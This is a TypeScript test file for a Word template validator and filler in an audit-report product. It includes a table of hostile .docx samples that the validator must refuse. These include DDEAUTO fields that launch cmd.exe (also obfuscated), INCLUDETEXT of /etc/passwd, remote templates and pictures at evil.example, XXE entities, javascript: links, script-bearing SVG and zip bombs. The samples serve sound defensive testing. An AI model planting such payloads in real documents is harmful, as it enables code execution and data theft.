import { deflateRawSync } from 'node:zlib'
import { type Locale, LOCALES } from 'contract'
import { wordTagsOf } from 'contract/workspace/word-tags'
import { beforeAll, describe, expect, it } from 'vitest'
import { unzip } from '#test/files/unzip.ts'
import { zip } from '#test/files/zip.ts'
import type { Block, DocumentModel } from '../document-model.ts'
import { wordOf, wordTemplateOf } from '../word.ts'
import { examine } from './examine.ts'
import { fillTemplate } from './fill-template.ts'
import { DOCUMENT } from './names.ts'

const TAGS = wordTagsOf('audit_report')
const words = (locale: Locale): DocumentModel['words'] => ({
  contents: { en: 'Contents', fr: 'Sommaire', ar: 'المحتويات' }[locale],
  page: '{{page}} / {{pages}}',
  hash: { en: 'Fingerprint', fr: 'Empreinte', ar: 'البصمة' }[locale],
})
const builtIn = async (locale: Locale) =>
  Buffer.from(await wordTemplateOf(locale, words(locale), { contents: true }))

const SAID = {
  en: [
    'Audit report',
    'Access management',
    'Access reviews late',
    'The review was late in two of five units.',
    'Cause',
  ],
  fr: [
    'Rapport d’audit',
    'Gestion des accès',
    'Revues en retard',
    'La revue était en retard : « 14 jours ».',
    'Cause',
  ],
  ar: [
    'تقرير التدقيق',
    'إدارة الوصول',
    'تأخر مراجعات الوصول',
    'تأخرت المراجعة في وحدتين من خمس (ISO 27001).',
    'السبب',
  ],
} as const

function modelIn(locale: Locale, data?: Buffer): DocumentModel {
  const [kind, title, finding, text, cause] = SAID[locale]
  const card: Block = {
    kind: 'card',
    title: `ISS-001 ${finding}`,
    level: 'High',
    tone: 4,
    rows: [{ name: cause, blocks: [{ kind: 'paragraph', text }] }],
  }
  const list = ['first', 'second'].map((one, at): Block => ({
    kind: 'paragraph',
    text: `${text} ${one}`,
    item: { ordered: true, level: 0, number: at + 1 },
  }))
  return {
    locale,
    kind,
    title: `${title} <&> AUD-2026-014`,
    organisation: 'Aldane "Group"',
    classification: 'Internal',
    cover: [
      [cause, '2026-11-17'],
      [title, 'one\ntwo'],
    ],
    summary: [
      { kind: 'heading', level: 1, text: `${title} 0` },
      { kind: 'rating', title: kind, steps: ['Good', 'Fair', 'Poor'], chosen: 1, none: '-' },
      { kind: 'paragraph', text },
    ],
    blocks: [
      { kind: 'heading', level: 1, text: `${finding} 1` },
      card,
      ...list,
      { kind: 'heading', level: 1, text: `${finding} 2` },
      { kind: 'table', head: ['#', cause], rows: [['S-001', text]], widths: [1, 4], landscape: true },
      {
        kind: 'radar',
        title: kind,
        axes: ['1', '2', '3'],
        series: [{ name: cause, values: [1, 2, 3] }],
        max: 5,
      },
      { kind: 'signatures', none: cause, signatures: [] },
    ],
    templateTexts: {
      cover: `${title} cover`,
      header: `${title} header`,
      footer: `${title} footer`,
      introduction: [{ kind: 'paragraph', text: `${text} introduction` }],
      closing: [{ kind: 'paragraph', text: `${text} closing` }],
    },
    words: words(locale),
    ...(data
      ? {
          wordTemplate: {
            data: data.toString('base64'),
            code: 'TPL-001',
            number: 1,
            sha256: '',
            values: {
              ...Object.fromEntries(
                TAGS.filter(({ kind: one }) => one === 'text').map(({ name }) => [name, '']),
              ),
              'document.kind': kind,
              'document.title': `${title} <&> AUD-2026-014`,
              'organisation.name': 'Aldane "Group"',
            },
          },
        }
      : {}),
  }
}

/** The words of all pages and page edges, in one order. The stored entries of the contents repeat headings: Word makes them anew. */
async function wordsIn(file: Uint8Array, which = /document|header|footer/): Promise<string[]> {
  const parts = await unzip(Buffer.from(file))
  const xml = [...parts].filter(([name]) => which.test(name) && !name.endsWith('.rels'))
  const text = xml
    .map(([, part]) =>
      part
        .toString()
        .replace(/<w:sdt>.*?<\/w:sdt>/gs, ' ')
        .replaceAll('</w:p>', ' ')
        .replaceAll('<w:br/>', ' ')
        .replace(/<w:instrText.*?<\/w:instrText>/g, ''),
    )
    .join(' ')
    .replace(/<[^>]*>/g, '')
    .replaceAll('&#34;', '"')
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
  return text.normalize('NFKC').split(/\s+/).filter(Boolean).toSorted()
}

let template: Map<string, Buffer>
beforeAll(async () => {
  template = await unzip(await builtIn('en'))
})

const packed = (parts: Map<string, Buffer | string>) =>
  zip([...parts].map(([name, content]) => ({ name, content })))
/** The built-in template with parts changed or added. */
function changed(more: Record<string, (before: string) => string | Buffer>): Buffer {
  const parts = new Map<string, Buffer | string>(template)
  for (const [name, change] of Object.entries(more)) parts.set(name, change(String(parts.get(name) ?? '')))
  return packed(parts)
}
const inBody = (xml: string) => (before: string) => before.replace('<w:body>', `<w:body>${xml}`)
const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`
const refusalsOf = async (file: Buffer) => {
  const examined = await examine(file, TAGS)
  return 'refusals' in examined ? examined.refusals.map(({ code, found }) => `${code} ${found}`.trim()) : []
}

describe('a Word template of the product', () => {
  it.each(LOCALES)(
    '%s passes the examination, and filled says what the built-in document says',
    async (locale) => {
      const examined = await examine(await builtIn(locale), TAGS)
      expect('refusals' in examined && examined.refusals).toBe(false)
      const filled = await fillTemplate(modelIn(locale, (examined as { bytes: Buffer }).bytes))
      const whole = await wordOf(modelIn(locale))
      expect(await wordsIn(filled, /document/)).toEqual(await wordsIn(whole, /document/))
      // Each section of the built-in document repeats its page edges, with estimated page numbers.
      const edges = async (one: Uint8Array) =>
        [...new Set(await wordsIn(one, /header|footer/))].filter((word) => !/^\d+$/.test(word))
      expect(await edges(filled)).toEqual(await edges(whole))
    },
  )

  it('keeps pages across, lists, pictures and the direction of Arabic', async () => {
    const filled = await fillTemplate(modelIn('ar', await builtIn('ar')))
    const parts = await unzip(filled)
    const body = String(parts.get(DOCUMENT))
    expect(body).toContain('w:orient="landscape"')
    // Only the section of the cover has other page edges on its first page.
    expect(body.match(/<w:titlePg(?: w:val="0")?\/>/g)).toEqual([
      '<w:titlePg/>',
      '<w:titlePg w:val="0"/>',
      '<w:titlePg w:val="0"/>',
    ])
    expect(body).toMatch(/<w:numId w:val="90\d\d"/)
    expect([...parts.keys()].filter((name) => name.startsWith('word/media/own-'))).toHaveLength(2)
    expect(String(parts.get('word/_rels/document.xml.rels'))).toContain('rIdOwn2')
    // The title: its Arabic words in a run from right to left, the code in one from left to right.
    expect(body).toMatch(/<w:rtl[^>]*\/><\/w:rPr><w:t xml:space="preserve">إدارة الوصول/)
  })
})

describe('a template changed in Word', () => {
  const fill = async (file: Buffer) => {
    const examined = await examine(file, TAGS)
    if ('refusals' in examined) throw new Error(JSON.stringify(examined.refusals))
    return (await wordsIn(await fillTemplate(modelIn('en', examined.bytes)))).join(' ')
  }

  it('fills a tag that Word has split over runs, keeping its formatting', async () => {
    const split =
      '<w:p><w:r><w:t>Nr {{docu</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>ment.kind}} end</w:t></w:r></w:p>'
    expect(await fill(changed({ [DOCUMENT]: inBody(split) }))).toContain('Nr')
  })

  it('repeats sections and findings, and leaves out what has no value', async () => {
    const own = [
      '{{#draft}}',
      'DRAFTED',
      '{{/draft}}',
      '{{#sections}}',
      'SECTION {{title}}',
      '{{body}}',
      '{{/sections}}',
      '{{#findings}}',
      'FINDING {{title}} {{level}}',
      '{{#parts}}',
      'PART {{name}}',
      '{{text}}',
      '{{/parts}}',
      '{{/findings}}',
    ]
    const said = await fill(changed({ [DOCUMENT]: inBody(own.map(paragraph).join('')) }))
    expect(said.match(/SECTION/g)).toHaveLength(2)
    expect(said.match(/FINDING/g)).toHaveLength(1)
    expect(said.match(/PART/g)).toHaveLength(1)
    expect(said).not.toContain('DRAFTED')
    expect(said).not.toContain('{{')
  })

  it('drops the stored entries of its contents, which repeat tags outside of their lists', async () => {
    const field = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
    const contents = `<w:p>${field('begin')}<w:r><w:instrText>TOC \\o "1-2"</w:instrText></w:r>${field('separate')}<w:r><w:t>SECTION {{title}}</w:t></w:r></w:p><w:p>${field('end')}</w:p>`
    expect(await fill(changed({ [DOCUMENT]: inBody(contents) }))).not.toContain('SECTION')
  })

  it('is the same file whenever it is examined', async () => {
    const once = await examine(await builtIn('en'), TAGS)
    const twice = await examine((once as { bytes: Buffer }).bytes, TAGS)
    expect(twice).toEqual(once)
  })
})

const RELATIONSHIPS = 'word/_rels/document.xml.rels'
const TYPES = '[Content_Types].xml'
const related =
  (type: string, target: string, mode = ' TargetMode="External"') =>
  (before: string) =>
    before.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
    )
const field = (...instructions: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const settings = (xml: string) => (before: string) => before.replace(/(<w:settings[^>]*>)/, `$1${xml}`)
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

/** A zip whose directory says that a part is larger than it is packed. */
function bomb(name: string, bytes: number): Buffer {
  const parts = new Map<string, Buffer | string>(template)
  parts.set(name, Buffer.alloc(bytes, 0x20))
  return packed(parts)
}

/** Two entries with names that differ in case only. */
const twice = () => {
  const entries = [...template].map(([name, content]) => ({ name, content }))
  return zip([...entries, { name: 'word/Document.xml'.toLowerCase(), content: template.get(DOCUMENT)! }])
}

function encrypted(): Buffer {
  const file = Buffer.from(packed(template))
  for (let at = file.indexOf('PK\u0001\u0002'); at >= 0; at = file.indexOf('PK\u0001\u0002', at + 1))
    file.writeUInt16LE(file.readUInt16LE(at + 8) | 1, at + 8)
  return file
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
const HOSTILE: Record<string, [() => Buffer, RegExp]> = {
  'a macro': [() => changed({ 'word/vbaProject.bin': () => 'VBA' }), /^macros/],
  'the type of a document with macros': [
    () =>
      changed({
        [TYPES]: (one) =>
          one
            .replace('wordprocessingml.document.main', 'x')
            .replace('vnd.openxmlformats-officedocument.x', 'vnd.ms-word.document.macroEnabled.main'),
      }),
    /^macros|^content_type/,
  ],
  'a remote picture': [
    () => changed({ [RELATIONSHIPS]: related('image', 'https://evil.example/p.png') }),
    /^external_content/,
  ],
  'a picture of the machine': [
    () => changed({ [RELATIONSHIPS]: related('image', 'file:///etc/hostname') }),
    /^external_content/,
  ],
  'a remote template': [
    () => changed({ 'word/settings.xml': settings(`<w:attachedTemplate ${R} r:id="rIdT"/>`) }),
    /^element_not_allowed w:attachedTemplate/,
  ],
  'a remote template by relationship': [
    () =>
      changed({
        'word/_rels/settings.xml.rels': () =>
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
      }),
    /^external_content/,
  ],
  'a linked object': [
    () => changed({ [DOCUMENT]: inBody('<w:p><w:r><w:object/></w:r></w:p>') }),
    /^element_not_allowed w:object/,
  ],
  'an embedded object': [
    () => changed({ 'word/embeddings/oleObject1.bin': () => 'x' }),
    /^macros|^part_not_allowed/,
  ],
  'a web page inside': [
    () => changed({ [DOCUMENT]: inBody(`<w:altChunk ${R} r:id="rIdX"/>`) }),
    /^element_not_allowed w:altChunk/,
  ],
  'a part with a web page': [() => changed({ 'word/chunk.html': () => '<html/>' }), /^part_not_allowed/],
  DDEAUTO: [
    () => changed({ [DOCUMENT]: inBody(field('DDEAUTO c:\\\\cmd.exe "/k calc"')) }),
    /^field_not_allowed DDEAUTO/,
  ],
  'DDE split over runs': [
    () => changed({ [DOCUMENT]: inBody(field('DD', 'EAU', 'TO cmd')) }),
    /^field_not_allowed DDEAUTO/,
  ],
  'DDE in signs written as numbers': [
    () =>
      changed({
        [DOCUMENT]: inBody(
          '<w:p><w:fldSimple w:instr="&#68;DE cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
        ),
      }),
    /^field_not_allowed DDE/,
  ],
  'DDE under another prefix': [
    () =>
      changed({
        [DOCUMENT]: inBody(
          '<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE cmd"/></q:p>',
        ),
      }),
    /^element_not_allowed q:p/,
  ],
  'DDE without an end': [
    () =>
      changed({
        [DOCUMENT]: inBody(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>',
        ),
      }),
    /^field_not_allowed/,
  ],
  'a field inside an instruction': [
    () =>
      changed({
        [DOCUMENT]: inBody(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PA</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>',
        ),
      }),
    /^field_not_allowed/,
  ],
  INCLUDEPICTURE: [
    () => changed({ [DOCUMENT]: inBody(field('INCLUDEPICTURE "https://evil.example/p.png" \\d')) }),
    /^field_not_allowed INCLUDEPICTURE/,
  ],
  INCLUDETEXT: [
    () => changed({ [DOCUMENT]: inBody(field('INCLUDETEXT "/etc/passwd"')) }),
    /^field_not_allowed INCLUDETEXT/,
  ],
  'a mail merge': [
    () => changed({ 'word/settings.xml': settings('<w:mailMerge/>') }),
    /^element_not_allowed w:mailMerge/,
  ],
  'a link to a share': [
    () => changed({ [RELATIONSHIPS]: related('hyperlink', 'file:////server/share') }),
    /^address_not_allowed/,
  ],
  'a link field that runs something': [
    () => changed({ [DOCUMENT]: inBody(field('HYPERLINK "javascript:alert(1)"')) }),
    /^address_not_allowed/,
  ],
  'a document type': [
    () => changed({ [DOCUMENT]: (one) => one.replace(/^<\?xml[^>]*>/, '<!DOCTYPE a [<!ENTITY a "aaaa">]>') }),
    /^invalid_xml <!DOCTYPE/,
  ],
  'an external entity': [
    () => changed({ [DOCUMENT]: (one) => `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>${one}` }),
    /^invalid_xml/,
  ],
  'another encoding': [
    () =>
      changed({
        [DOCUMENT]: (one) => one.replace(/^<\?xml[^>]*>/, '<?xml version="1.0" encoding="UTF-7"?>'),
      }),
    /^invalid_xml UTF-7/,
  ],
  'bytes that are not UTF-8': [
    () => changed({ [DOCUMENT]: () => Buffer.from([0xff, 0xfe, 0x3c, 0x00]) }),
    /^invalid_xml UTF-8/,
  ],
  'XML that is not well-formed': [
    () => changed({ [DOCUMENT]: (one) => one.replace('</w:body>', '') }),
    /^invalid_xml/,
  ],
  'deep nesting': [
    () =>
      changed({
        [DOCUMENT]: inBody(
          '<w:sdt><w:sdtContent>'.repeat(5_000) + '<w:p/>' + '</w:sdtContent></w:sdt>'.repeat(5_000),
        ),
      }),
    /^too_complex/,
  ],
  'a path outside': [() => changed({ '../../evil.txt': () => 'x' }), /^part_not_allowed|^not_a_word/],
  'a picture with scripts': [() => changed({ 'word/media/x.svg': () => svg }), /^part_not_allowed/],
  'a picture that is none': [() => changed({ 'word/media/x.png': () => svg }), /^picture_not_allowed/],
  'a part that unpacks to 7 MB of spaces': [() => bomb(DOCUMENT, 7 * 1024 * 1024), /^too_large/],
  'a picture that unpacks to 60 MB': [() => bomb('word/media/b.png', 60 * 1024 * 1024), /^too_large/],
  'a part twice': [twice, /^part_not_allowed/],
  'a password': [encrypted, /^encrypted/],
  'the old format': [
    () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(512)]),
    /^encrypted/,
  ],
  'no zip at all': [() => Buffer.from('plain'), /^not_a_word_document/],
  'more than 5 MB': [() => Buffer.concat([packed(template), Buffer.alloc(6 * 1024 * 1024)]), /^too_large/],
  'an embedded font': [() => changed({ 'word/fonts/font1.odttf': () => 'x' }), /^part_not_allowed/],
  'data bound to a source': [
    () =>
      changed({
        [DOCUMENT]: inBody(
          '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>',
        ),
      }),
    /^element_not_allowed w:dataBinding/,
  ],
  'a workbook': [() => zip([{ name: 'xl/workbook.xml', content: '<a/>' }]), /^part_not_allowed/],
}

describe('refused', () => {
  it.each(Object.entries(HOSTILE))('%s', async (_, [file, expected]) => {
    const found = await refusalsOf(file())
    expect(found).toHaveLength(1)
    expect(found[0]).toMatch(expected)
  })

  it.each([
    ['an unknown tag', paragraph('{{document.titel}}'), 'unknown_tag {{document.titel}}'],
    ['a name that every object has', paragraph('{{constructor}}'), 'unknown_tag {{constructor}}'],
    ['a tag of a list outside of it', paragraph('{{body}}'), 'unknown_tag {{body}}'],
    [
      'options of the engine',
      paragraph('{{#facts [loopOver: "row"]}}'),
      'unknown_tag {{#facts [loopOver: "row"]}}',
    ],
    ['text beside a tag for blocks', paragraph('See {{content}}'), 'tag_not_alone {{content}}'],
    ['a list that is not closed', paragraph('{{#findings}}'), 'tag_not_closed {{#findings}}'],
    ['braces that are not closed', paragraph('{{document.title'), 'tag_not_closed {{document.title'],
  ])('%s, with its place', async (_, xml, expected) => {
    const examined = await examine(changed({ [DOCUMENT]: inBody(xml) }), TAGS)
    expect('refusals' in examined && examined.refusals[0]).toMatchObject({
      part: DOCUMENT,
      near: expect.any(String),
    })
    expect(await refusalsOf(changed({ [DOCUMENT]: inBody(xml) }))).toContain(expected)
  })

  it('a tag in a footnote, where nothing is filled', async () => {
    const file = changed({
      'word/footnotes.xml': (one) =>
        one.replace('</w:footnotes>', `${paragraph('{{document.title}}')}</w:footnotes>`),
    })
    expect(await refusalsOf(file)).toEqual(['tag_not_here {{'])
  })
})

it('packs as the checks expect', () => {
  // Spaces are packed far tighter than any text, which the ratio is set for.
  expect(deflateRawSync(Buffer.alloc(1_000_000, 0x20)).length).toBeLessThan(5_000)
})
